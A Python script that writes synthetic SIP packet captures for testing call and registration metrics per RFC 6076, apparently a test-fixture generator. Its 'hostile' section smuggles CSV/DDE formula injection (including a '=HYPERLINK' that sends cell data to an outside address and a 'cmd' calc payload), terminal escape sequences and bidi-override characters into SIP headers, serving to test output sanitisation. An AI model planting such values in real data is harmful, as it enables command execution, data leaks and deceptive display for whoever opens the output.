#!/usr/bin/env python3
"""Writes a capture to standard output: calls and registrations with exact times, or odd texts.

    odd_ends.py NAME...
"""
# SPDX-License-Identifier: GPL-2.0-or-later

import pathlib
import sys

TOP = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(TOP / "pcaps" / "make"))
from calls import URI, message  # noqa: E402  (they lie beside the captures)
from packets import ALICE, BOB, udp, write  # noqa: E402

SECOND = 1000000
PROXY = "192.0.2.5"
LATER = "SIP/2.0/UDP 192.0.2.10:5060;branch=z9hG4bKhand"


class Dialog:
    """Alice asks, bob answers; times are in seconds."""

    def __init__(self, name, source=ALICE, target=BOB):
        self.name, self.ends, self.sent = name, (source, target), []

    def ask(self, time, method, number=1, by_callee=False, to_tag="b1", **more):
        ends = self.ends[::-1] if by_callee else self.ends
        tags = {"from_tag": "b1", "to_tag": "a1"} if by_callee else {"to_tag": to_tag}
        branch = more.pop("branch", f"z9hG4bK{self.name}{number}{method if method == 'ACK' else ''}")
        data = message(f"{method} {URI}", f"{number} {method}", self.name, branch, **tags, **more)
        self.sent.append((time, udp(data, *ends)))
        return self

    def answer(self, time, status, method="INVITE", number=1, by_caller=False, **more):
        ends = self.ends if by_caller else self.ends[::-1]
        tags = {"from_tag": "b1", "to_tag": "a1"} if by_caller else {"to_tag": "b1"}
        branch = more.pop("branch", f"z9hG4bK{self.name}{number}")
        data = message(f"SIP/2.0 {status} -", f"{number} {method}", self.name, branch, **tags, **more)
        self.sent.append((time, udp(data, *ends)))
        return self

    def invite(self, time, number=1, **more):
        return self.ask(time, "INVITE", number, to_tag="", **more)

    def register(self, time, number=1, **more):
        return self.ask(time, "REGISTER", number, to_tag="", **more)


def calls():
    """Each lets one choice of RFC 6076 show; the capture ends after 150 s."""
    near, far = Dialog("hops", ALICE, PROXY), Dialog("hops", PROXY, BOB)
    behind = {"branch": "z9hG4bKfar", "sent_by": PROXY, "extra": f"Via: {LATER}\r\n"}
    near.invite(80).answer(80.105, 180).answer(80.205, 200).ask(80.3, "ACK")
    near.answer(81.204, 200, "BYE", 9, by_caller=True).ask(81.203, "BYE", 9, by_callee=True)
    far.invite(80.001, **behind).answer(80.1, 180, **behind).answer(80.2, 200, **behind)
    far.ask(81.2, "BYE", 9, by_callee=True, branch="z9hG4bKbye")
    far.answer(81.205, 200, "BYE", 9, by_caller=True, branch="z9hG4bKbye")
    elsewhere = {"extra": "Reason: SIP;cause=200;text=\"Call completed elsewhere\"\r\n"}
    dialogs = [
        Dialog("plain").invite(0).answer(.01, 100).answer(1, 180).answer(3, 200).ask(3.1, "ACK").ask(13, "BYE", 2)
        .answer(13.25, 200, "BYE", 2),
        Dialog("challenged").invite(20).answer(20.1, 407).ask(20.15, "ACK", branch="z9hG4bKchallenged1").invite(20.2, 2)
        .answer(20.7, 183, number=2).answer(22, 486, number=2),
        Dialog("byefails").invite(30).answer(30.4, 200).ask(30.5, "ACK").ask(40.4, "BYE", 7, by_callee=True)
        .answer(40.5, 500, "BYE", 7, by_caller=True),
        Dialog("byelost").invite(50).answer(50.5, 200).ask(50.6, "ACK").ask(55.5, "BYE", 2),
        Dialog("silence").invite(60),
        Dialog("moved").invite(61).answer(61.1, 302),
        Dialog("overload").invite(62).answer(62.2, 503),
        Dialog("accepted").invite(63).answer(63.3, 202).ask(63.4, "ACK").ask(64.3, "BYE", 2)
        .answer(64.4, 200, "BYE", 2),
        Dialog("payment").invite(65).answer(65.1, 402),
        Dialog("cancelled").invite(66).answer(66.1, 180).ask(67, "CANCEL", to_tag="", **elsewhere)
        .answer(67.05, 200, "CANCEL").answer(67.1, 487),
        Dialog("acknowledged").invite(68).ask(69, "ACK").ask(70, "BYE", 2, extra="Reason: Q.850;cause=16\r\n")
        .answer(70.1, 200, "BYE", 2),
        Dialog("up").invite(71).answer(71.1, 200).ask(71.2, "ACK"),
        Dialog("bye").invite(72).answer(72.1, 200).ask(72.2, "ACK").ask(149, "BYE", 2),
        Dialog("ringing").invite(148).answer(148.2, 180),
        Dialog("timeout").invite(73).answer(73.1, 200).ask(73.2, "ACK").ask(75.1, "BYE", 2).answer(80.1, 408, "BYE", 2),
        near, far,
    ]
    return [packet for dialog in dialogs for packet in dialog.sent] + [(150, udp(b"\r\n\r\n"))]


def registrations():
    """Attempts that go on, and attempts that don't; the capture ends after 100 s."""
    near, far = Dialog("reghops", ALICE, PROXY), Dialog("reghops", PROXY, BOB)
    behind = {"sent_by": PROXY, "extra": f"Via: {LATER}\r\n"}
    near.register(50).answer(50.1, 401, "REGISTER").register(50.2, 2).answer(50.4, 200, "REGISTER", 2)
    far.register(50.01, branch="z9hG4bKfar1", **behind).answer(50.09, 401, "REGISTER", branch="z9hG4bKfar1", **behind)
    far.register(50.21, 2, branch="z9hG4bKfar2", **behind)
    far.answer(50.39, 200, "REGISTER", 2, branch="z9hG4bKfar2", **behind)
    dialogs = [
        Dialog("regtwice").register(0).answer(.1, 401, "REGISTER").register(.2, 2).answer(.3, 200, "REGISTER", 2)
        .register(10, 3).answer(10.05, 200, "REGISTER", 3),
        Dialog("regdenied").register(1).answer(1.1, 401, "REGISTER").register(1.2, 2).answer(1.3, 401, "REGISTER", 2),
        Dialog("regbrief").register(2).answer(2.1, 423, "REGISTER").register(2.2, 2).answer(2.4, 200, "REGISTER", 2),
        Dialog("regforbidden").register(3).answer(3.1, 403, "REGISTER"),
        Dialog("regsilence").register(4).answer(4.1, 100, "REGISTER"),
        Dialog("regopen").register(99),
        Dialog("regsame").register(5).answer(5.1, 200, "REGISTER").register(20, branch="z9hG4bKsame")
        .answer(20.1, 200, "REGISTER", branch="z9hG4bKsame"),
        near, far,
    ]
    return [packet for dialog in dialogs for packet in dialog.sent] + [(100, udp(b"\r\n\r\n"))]


def pairs():
    """Thirty pairs of hosts, of which the last ones fail most."""
    sent = []
    for pair in range(30):
        for call in range(5):
            dialog = Dialog(f"pair{pair}call{call}", f"198.51.100.{pair + 1}" if pair else "2001:db8::10",
                            BOB if pair else "2001:db8::20")
            sent += dialog.invite(pair + call / 10).answer(pair + call / 10 + .01, 404 if call < pair / 6 else 486).sent
    return sent


def hostile():
    """What a terminal or a spreadsheet must not get as it is."""
    def raw(time, lines, to_alice=False):
        return time, udp(b"\r\n".join(lines) + b"\r\n\r\n", *(BOB, ALICE) if to_alice else (ALICE, BOB))

    def headers(number, from_value, to_value, call_id):
        return [b"Via: SIP/2.0/UDP 192.0.2.10;branch=z9hG4bKhostile%d" % number, b"From: " + from_value + b";tag=a",
                b"To: " + to_value, b"Call-ID: " + call_id, b"CSeq: 1 INVITE", b"Content-Length: 0"]

    formula = b"=HYPERLINK(\"http://192.0.2.99/\"&A1)"
    odd = [
        headers(0, b"<" + formula + b">", b"<+1+2>", b"-2+3+cmd|' /C calc'!A0"),
        headers(1, b"<sip:\x1b[2J\x1b]0;owned\x07\x7f@example.com>", b"<sip:\xff\xfe\xc2\x9b31m@example.com>",
                b"@SUM(1\t\x00)"),
        headers(2, b"<sip:a\"b\",c\\@example.com>",
                "<sip:\u202eevil\u202c\u200b\u4f60\u597d\u4f60\u597d\u4f60\u597d@example.com>".encode(),
                b"quote\"comma,"),
        headers(3, b"<sip:" + b"long" * 200 + b"@example.com>", b"<sip:bob@example.com>", b"c" * 400),
        headers(4, b"sip:no-brackets@example.com", b"", b""),
    ]
    reason = b"Reason: Q.850;cause=41;text=\"=1+1\x1b[31m\", X\"Y;text=\"\\\"\"" + b",Z;cause=1" * 20
    sent = []
    for number, lines in enumerate(odd):
        sent.append(raw(number, [b"INVITE " + (formula if number == 0 else URI.encode()) + b" SIP/2.0", *lines]))
        sent.append(raw(number + .1, [b"SIP/2.0 500 Oh\x1b[2J", *lines, reason], to_alice=True))
    return sent


KINDS = {function.__name__: function for function in (calls, registrations, pairs, hostile)}


def main():
    sent = [packet for name in sys.argv[1:] for packet in KINDS[name]()]
    sent.sort(key=lambda packet: packet[0])
    write("/dev/stdout", [packet for _, packet in sent], [round(time * SECOND) for time, _ in sent])


main()
